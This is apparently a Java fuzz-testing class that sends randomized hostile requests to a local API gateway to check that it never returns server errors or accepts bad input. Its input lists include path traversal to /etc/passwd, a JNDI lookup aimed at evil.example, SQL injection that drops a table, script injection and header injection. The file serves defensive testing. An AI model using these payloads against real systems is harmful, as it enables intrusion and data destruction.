package gateway.core.testing;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URI;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;

/**
 * A deterministic fuzz of every operation in the gateway's OpenAPI document, over raw HTTP/1.1 sockets (so paths and
 * bodies may hold bytes no well-behaved client would send). Each request is a random operation with hostile path ids,
 * query values, headers and bodies drawn from a {@link Random} seeded with {@link #seed}, so a failure replays exactly.
 *
 * <p>What it proves: no answer is a 5xx (other than the 503s the caller declares expected, e.g. a service this setup
 * does not have) and the connection always gets an answer; and, because every state-changing request is hostile by
 * construction (its JSON body carries at least one value no field accepts: a NUL, a lone surrogate, a non-finite
 * number; its id is never a real one), none of them is accepted, so the caller can check the state is unchanged.
 */
public final class ApiFuzzer {

    /** One request that broke a rule, with enough to replay it. */
    public record Finding(int index, String operation, String method, String target, String body, int status,
                          String answer) {
        @Override
        public String toString() {
            return "#" + index + " " + method + " " + target + (body == null ? "" : " body=" + cut(body, 300))
                    + " -> " + status + " " + cut(answer, 400);
        }
    }

    /** The run's figures. */
    public record Report(long seed, int requests, Map<Integer, Integer> statuses, List<Finding> serverErrors,
                         List<Finding> acceptedHostile, Duration took) {
        public boolean clean() {
            return serverErrors.isEmpty() && acceptedHostile.isEmpty();
        }

        public String summary() {
            StringBuilder s = new StringBuilder("fuzz seed=" + seed + " requests=" + requests + " took="
                    + took.toMillis() + " ms statuses=" + statuses);
            Map<String, Finding> firstPerOperation = new TreeMap<>();
            serverErrors.forEach(f -> firstPerOperation.putIfAbsent("5xx: " + f.operation(), f));
            acceptedHostile.forEach(f -> firstPerOperation.putIfAbsent("accepted: " + f.operation(), f));
            firstPerOperation.forEach((k, f) -> s.append("\n  ").append(k).append(" e.g. ").append(f));
            s.append("\n  replay with -Dfuzz.seed=").append(seed);
            return s.toString();
        }
    }

    private record Operation(String method, String template, JsonNode spec) {
    }

    private static final Set<String> STATE_CHANGING = Set.of("POST", "PUT", "DELETE", "PATCH");
    private static final ObjectMapper MAPPER = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    private final URI base;
    private final String authorization;
    private final long seed;
    private final Random random;
    private final Map<String, List<String>> realIds = new LinkedHashMap<>();
    private Set<String> skipped = Set.of("GET /api/events");
    private Set<String> expectedUnavailable = Set.of();

    /**
     * @param base          the gateway, e.g. http://127.0.0.1:8080
     * @param authorization the Authorization header of an admin (most requests carry it)
     */
    public ApiFuzzer(URI base, String authorization, long seed) {
        this.base = base;
        this.authorization = authorization;
        this.seed = seed;
        this.random = new Random(seed);
    }

    /** Ids that exist, by the collection they belong to ("heatpumps"): used only where nothing can change. */
    public ApiFuzzer realIds(String collection, List<String> ids) {
        realIds.put(collection, List.copyOf(ids));
        return this;
    }

    /** Operations not fuzzed ("GET /api/events": a stream that never ends). */
    public ApiFuzzer skip(Set<String> operations) {
        this.skipped = Set.copyOf(operations);
        return this;
    }

    /** Problem types (their last path segment, e.g. "bundles-unavailable") whose 503 this setup expects. */
    public ApiFuzzer expectUnavailable(Set<String> problemTypes) {
        this.expectedUnavailable = Set.copyOf(problemTypes);
        return this;
    }

    /** Runs {@code count} requests against the operations of {@code openApi}. */
    public Report run(JsonNode openApi, int count) throws IOException {
        List<Operation> operations = new ArrayList<>();
        Iterator<Map.Entry<String, JsonNode>> paths = openApi.get("paths").fields();
        while (paths.hasNext()) {
            Map.Entry<String, JsonNode> path = paths.next();
            Iterator<Map.Entry<String, JsonNode>> methods = path.getValue().fields();
            while (methods.hasNext()) {
                Map.Entry<String, JsonNode> m = methods.next();
                String method = m.getKey().toUpperCase();
                if (!skipped.contains(method + " " + path.getKey())) {
                    operations.add(new Operation(method, path.getKey(), m.getValue()));
                }
            }
        }
        JsonNode schemas = openApi.path("components").path("schemas");
        Map<Integer, Integer> statuses = new TreeMap<>();
        List<Finding> serverErrors = new ArrayList<>();
        List<Finding> accepted = new ArrayList<>();
        long started = System.nanoTime();
        for (int i = 0; i < count; i++) {
            Operation op = operations.get(random.nextInt(operations.size()));
            boolean changes = STATE_CHANGING.contains(op.method());
            String target = target(op, changes);
            Map<String, String> headers = new LinkedHashMap<>();
            byte[] body = body(op, schemas, headers, changes);
            authorize(headers);
            if (random.nextInt(50) == 0) {
                headers.put(pick(List.of("X-CSRF-Token", "Cookie", "Origin", "Sec-Fetch-Mode", "X-Forwarded-For",
                        "Accept", "Content-Length-Extra")), hostileHeaderValue());
            }
            String shownBody = body == null ? null : new String(body, StandardCharsets.UTF_8);
            int status;
            String answer;
            try {
                String[] response = exchange(op.method(), target, headers, body);
                status = Integer.parseInt(response[0]);
                answer = response[1];
            } catch (IOException | RuntimeException e) {
                status = -1;
                answer = "no answer: " + e;
            }
            statuses.merge(status, 1, Integer::sum);
            Finding finding = new Finding(i, op.method() + " " + op.template(), op.method(), target, shownBody,
                    status, answer);
            if (status < 0 || (status >= 500 && !expected(status, answer))) {
                serverErrors.add(finding);
            } else if (changes && status >= 200 && status < 300 && !harmless(op)) {
                accepted.add(finding);
            }
        }
        return new Report(seed, count, statuses, serverErrors, accepted,
                Duration.ofNanos(System.nanoTime() - started));
    }

    /** Operations that succeed on any input without changing anything kept. */
    private static boolean harmless(Operation op) {
        return op.template().equals("/api/logout");
    }

    private boolean expected(int status, String answer) {
        if (status != 503) {
            return false;
        }
        return expectedUnavailable.stream().anyMatch(t -> answer.contains(":" + t + "\"")
                || answer.contains("/" + t + "\""));
    }

    private void authorize(Map<String, String> headers) {
        int r = random.nextInt(100);
        if (r < 85) {
            headers.put("Authorization", authorization);
        } else if (r < 90) {
            // nobody
        } else if (r < 95) {
            headers.put("Authorization", "Bearer " + hostileString(false));
        } else {
            String user = random.nextBoolean() ? "admin" : hostileString(false);
            headers.put("Authorization", "Basic " + Base64.getEncoder().encodeToString(
                    (user + ":" + hostileString(false)).getBytes(StandardCharsets.UTF_8)));
        }
    }

    // --- targets: path ids and query parameters

    private String target(Operation op, boolean changes) {
        StringBuilder path = new StringBuilder();
        for (String segment : op.template().split("/", -1)) {
            if (path.length() > 0 || !segment.isEmpty()) {
                path.append('/');
            }
            if (segment.startsWith("{")) {
                path.append(id(op, changes));
            } else {
                path.append(segment);
            }
        }
        List<String> query = new ArrayList<>();
        for (JsonNode p : op.spec().path("parameters")) {
            if ("query".equals(p.path("in").asText()) && random.nextInt(100) < 60) {
                query.add(encode(p.get("name").asText()) + "=" + queryValue());
            }
        }
        if (random.nextInt(10) == 0) {
            query.add(encode(hostileString(false)) + "=" + queryValue());
        }
        return path + (query.isEmpty() ? "" : "?" + String.join("&", query));
    }

    /** A real id only where the request cannot change anything; otherwise one that exists nowhere. */
    private String id(Operation op, boolean changes) {
        String collection = op.template().split("/")[2];
        List<String> real = realIds.getOrDefault(collection, List.of());
        if (!changes && !real.isEmpty() && random.nextInt(100) < 30) {
            return encode(pick(real));
        }
        int r = random.nextInt(100);
        if (r < 10) {
            // raw bytes and broken escapes, as an attacker's client sends them
            return pick(List.of("%", "%G1", "%00", "%2e%2e", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "%C0%AE%C0%AE",
                    "%FF%FE", "..", ".", "%252e", ";jsessionid=1", "a%2Fb", "%u202E"));
        }
        return encode(hostileString(true));
    }

    private String queryValue() {
        int r = random.nextInt(100);
        if (r < 20) {
            return pick(List.of("%", "%00", "%ZZ", "%FF", "", "&", "=="));
        }
        if (r < 40) {
            return pick(List.of("NaN", "Infinity", "-Infinity", "1e308", "1e999", "-1", "0", "-0",
                    "99999999999999999999", "2147483648", "-9223372036854775809", "2026-13-45T99:99:99Z",
                    "1970-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "-999999999-01-01T00:00:00Z", "P1D", "true",
                    "0x10", "1_000", " 5", "5 "));
        }
        return encode(hostileString(false));
    }

    // --- bodies

    private byte[] body(Operation op, JsonNode schemas, Map<String, String> headers, boolean changes) {
        JsonNode content = op.spec().path("requestBody").path("content");
        if (content.has("application/json")) {
            return jsonBody(content.get("application/json").get("schema"), schemas, headers, changes);
        }
        if (content.size() > 0) {
            // text or binary uploads: hostile bytes under one of the documented media types, or a wrong one
            List<String> types = new ArrayList<>();
            content.fieldNames().forEachRemaining(types::add);
            headers.put("Content-Type", random.nextInt(5) == 0 ? hostileContentType() : pick(types)
                    + (random.nextBoolean() ? "" : "; boundary=" + hostileString(false)));
            return hostileBytes();
        }
        if (random.nextInt(5) == 0) {
            headers.put("Content-Type", "application/json");
            return random.nextBoolean() ? "{}".getBytes(StandardCharsets.UTF_8) : malformedJson();
        }
        return null;
    }

    private byte[] jsonBody(JsonNode schema, JsonNode schemas, Map<String, String> headers, boolean changes) {
        int r = random.nextInt(100);
        if (r < 5) {
            return null;
        }
        headers.put("Content-Type", r < 10 ? hostileContentType() : "application/json");
        if (r < 20) {
            return malformedJson();
        }
        JsonNode value = value(schema, schemas, 0);
        if (changes || random.nextBoolean()) {
            value = poison(value);
        }
        try {
            return MAPPER.writer().with(com.fasterxml.jackson.core.json.JsonWriteFeature.ESCAPE_NON_ASCII)
                    .writeValueAsBytes(value);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    /** A value for {@code schema}: mostly of its type with hostile content, sometimes of another type. */
    private JsonNode value(JsonNode schema, JsonNode schemas, int depth) {
        if (schema == null || schema.isMissingNode()) {
            return anyValue(depth);
        }
        if (schema.has("$ref")) {
            String name = schema.get("$ref").asText().substring("#/components/schemas/".length());
            return value(schemas.get(name), schemas, depth);
        }
        if (random.nextInt(100) < 10) {
            return anyValue(depth);
        }
        String type = schema.path("type").isArray() ? schema.get("type").get(0).asText()
                : schema.path("type").asText("");
        switch (type) {
            case "object": {
                ObjectNode o = NODES.objectNode();
                if (depth > 6) {
                    return o;
                }
                JsonNode props = schema.path("properties");
                props.fieldNames().forEachRemaining(name -> {
                    if (random.nextInt(100) < 70) {
                        o.set(name, value(props.get(name), schemas, depth + 1));
                    }
                });
                if (schema.has("additionalProperties") && random.nextBoolean()) {
                    for (int i = random.nextInt(4); i > 0; i--) {
                        o.set(hostileString(false), value(schema.get("additionalProperties"), schemas, depth + 1));
                    }
                }
                if (random.nextInt(10) == 0) {
                    o.set(hostileString(false), anyValue(depth + 1));
                }
                return o;
            }
            case "array": {
                ArrayNode a = NODES.arrayNode();
                for (int i = random.nextInt(random.nextInt(10) == 0 ? 200 : 5); i > 0 && depth < 6; i--) {
                    a.add(value(schema.get("items"), schemas, depth + 1));
                }
                return a;
            }
            case "integer":
                return NODES.numberNode(pick(List.of(0L, -1L, 1L, 65535L, 65536L, 2147483647L, 2147483648L,
                        -2147483649L, Long.MAX_VALUE, Long.MIN_VALUE, (long) random.nextInt())));
            case "number":
                return hostileNumber();
            case "boolean":
                return NODES.booleanNode(random.nextBoolean());
            default:
                return NODES.textNode(hostileString(false));
        }
    }

    private JsonNode anyValue(int depth) {
        return switch (random.nextInt(7)) {
            case 0 -> NODES.nullNode();
            case 1 -> NODES.booleanNode(random.nextBoolean());
            case 2 -> hostileNumber();
            case 3 -> depth > 4 ? NODES.arrayNode() : NODES.arrayNode().add(anyValue(depth + 1));
            case 4 -> depth > 4 ? NODES.objectNode() : NODES.objectNode().set(hostileString(false), anyValue(depth + 1));
            default -> NODES.textNode(hostileString(false));
        };
    }

    /** The body with one value no field of the API accepts, so a state-changing request must be refused. */
    private JsonNode poison(JsonNode value) {
        JsonNode bad = switch (random.nextInt(4)) {
            case 0 -> NODES.textNode("x\u0000y");
            // "x" between: a hostile string that starts with a low surrogate would otherwise complete a valid pair
            case 1 -> NODES.textNode("\uD800x" + hostileString(false));
            case 2 -> NODES.numberNode(new java.math.BigDecimal("1e400"));
            // a control character alone is fine in a password or passphrase (anything but NUL): add the NUL
            default -> NODES.textNode("bad\u0001control\u0000");
        };
        if (value instanceof ObjectNode o && o.size() > 0 && random.nextBoolean()) {
            List<String> names = new ArrayList<>();
            o.fieldNames().forEachRemaining(names::add);
            o.set(pick(names), bad);
            return o;
        }
        if (value instanceof ObjectNode o) {
            o.set(pick(List.of("name", "host", "id", "value", "message", "threshold", "password")), bad);
            return o;
        }
        return NODES.arrayNode().add(value).add(bad);
    }

    private JsonNode hostileNumber() {
        return switch (random.nextInt(6)) {
            case 0 -> NODES.numberNode(new java.math.BigDecimal("1e308"));
            case 1 -> NODES.numberNode(new java.math.BigDecimal("-1e400"));
            case 2 -> NODES.numberNode(new java.math.BigDecimal("123456789012345678901234567890"));
            case 3 -> NODES.numberNode(-0.0);
            case 4 -> NODES.numberNode(4.9e-324);
            default -> NODES.numberNode(random.nextGaussian() * 1000);
        };
    }

    private byte[] malformedJson() {
        String s = switch (random.nextInt(12)) {
            case 0 -> "{";
            case 1 -> "{\"name\": }";
            case 2 -> "[".repeat(5000) + "]".repeat(5000);
            case 3 -> "{\"a\":".repeat(3000) + "1" + "}".repeat(3000);
            case 4 -> "{\"name\":\"a\",\"name\":\"b\"}";
            case 5 -> "{\"host\": NaN}";
            case 6 -> "{\"x\": 1e99999999}";
            case 7 -> "null";
            case 8 -> "\"just a string\"";
            case 9 -> "{} trailing";
            case 10 -> "{\"name\":\"" + "a".repeat(2_000_000) + "\"}";
            default -> "{\"n\":\"\\ud800\"}";
        };
        byte[] bytes = s.getBytes(StandardCharsets.UTF_8);
        if (random.nextInt(4) == 0) {
            bytes = new byte[] { '{', '"', 'n', '"', ':', '"', (byte) 0xC3, (byte) 0x28, (byte) 0xFF, '"', '}' };
        }
        return bytes;
    }

    private byte[] hostileBytes() {
        int r = random.nextInt(4);
        if (r == 0) {
            return new byte[0];
        }
        if (r == 1) {
            return ("PK\u0003\u0004" + hostileString(false)).getBytes(StandardCharsets.ISO_8859_1);
        }
        if (r == 2) {
            return ("address,type,name\n" + hostileString(false) + "," + hostileString(false) + ",x\n")
                    .getBytes(StandardCharsets.UTF_8);
        }
        byte[] b = new byte[random.nextInt(4096)];
        random.nextBytes(b);
        return b;
    }

    private String hostileContentType() {
        return pick(List.of("text/plain", "application/xml", "application/json; charset=EBCDIC",
                "application/json; charset=\u0000", "multipart/form-data", "multipart/form-data; boundary=",
                "application/x-www-form-urlencoded", "*/*", "application/json;;;", ""));
    }

    private String hostileHeaderValue() {
        return pick(List.of("", "\u00ff\u00fe", "gw_session=" + "a".repeat(5000), "gw_session=;;;", "null",
                "http://evil.example", "navigate", "1.2.3.4, ::1, garbage", "a".repeat(7000)));
    }

    /** Strings that have broken parsers, stores and logs; {@code forPath} keeps them short enough for a URL. */
    String hostileString(boolean forPath) {
        int r = random.nextInt(24);
        return switch (r) {
            case 0 -> "";
            case 1 -> " ";
            case 2 -> "../../../../etc/passwd";
            case 3 -> "${jndi:ldap://evil.example/a}";
            case 4 -> "' OR '1'='1' --";
            case 5 -> "\"; DROP TABLE heatpumps; --";
            case 6 -> "<script>alert(1)</script>";
            case 7 -> "a".repeat(forPath ? 2000 : pick(List.of(65, 201, 254, 296, 2001, 70_000)));
            case 8 -> "\u202Egnp.exe";
            case 9 -> "\u0000";
            case 10 -> "\uD83D\uDD25\u00e4\u00f6\u00fc\u6c34";
            case 11 -> "\uDC00lone";
            case 12 -> "line\r\nInjected: header";
            case 13 -> "%s%n%x";
            case 14 -> "\\u0000";
            case 15 -> "hp-" + Long.toHexString(random.nextLong());
            case 16 -> "-1";
            case 17 -> "NaN";
            case 18 -> "1e308";
            case 19 -> "{{7*7}}";
            case 20 -> "\u2028\u2029\u200F";
            case 21 -> "CON";
            case 22 -> "x".repeat(random.nextInt(300));
            default -> Long.toString(random.nextLong(), 36);
        };
    }

    private <T> T pick(List<T> options) {
        return options.get(random.nextInt(options.size()));
    }

    private static String encode(String s) {
        return URLEncoder.encode(s, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String cut(String s, int max) {
        if (s == null) {
            return "";
        }
        String flat = s.replace("\r", "\\r").replace("\n", "\\n").replace("\u0000", "\\0");
        return flat.length() <= max ? flat : flat.substring(0, max) + "…(" + flat.length() + ")";
    }

    /** One exchange on its own connection; answers {status, response text}. */
    private String[] exchange(String method, String target, Map<String, String> headers, byte[] body)
            throws IOException {
        try (Socket socket = new Socket()) {
            socket.connect(new InetSocketAddress(base.getHost(), base.getPort()), 10_000);
            socket.setSoTimeout(60_000);
            StringBuilder head = new StringBuilder();
            head.append(method).append(' ').append(target).append(" HTTP/1.1\r\n");
            head.append("Host: ").append(base.getHost()).append(':').append(base.getPort()).append("\r\n");
            head.append("Connection: close\r\n");
            headers.forEach((name, value) -> head.append(name).append(": ")
                    .append(value.replace("\r", "").replace("\n", "")).append("\r\n"));
            if (body != null) {
                head.append("Content-Length: ").append(body.length).append("\r\n");
            }
            head.append("\r\n");
            OutputStream out = socket.getOutputStream();
            out.write(head.toString().getBytes(StandardCharsets.UTF_8));
            if (body != null) {
                try {
                    out.write(body);
                } catch (IOException e) {
                    // the server may answer (413) and close before reading a large body: read what it said
                }
            }
            out.flush();
            ByteArrayOutputStream answer = new ByteArrayOutputStream();
            InputStream in = socket.getInputStream();
            try {
                in.transferTo(answer);
            } catch (IOException e) {
                if (answer.size() == 0) {
                    throw e;
                }
            }
            String text = answer.toString(StandardCharsets.UTF_8);
            if (!text.startsWith("HTTP/1.1 ")) {
                throw new IOException("not an HTTP answer: " + cut(text, 100));
            }
            int bodyStart = text.indexOf("\r\n\r\n");
            return new String[] { text.substring(9, 12), bodyStart < 0 ? "" : text.substring(bodyStart + 4) };
        }
    }
}
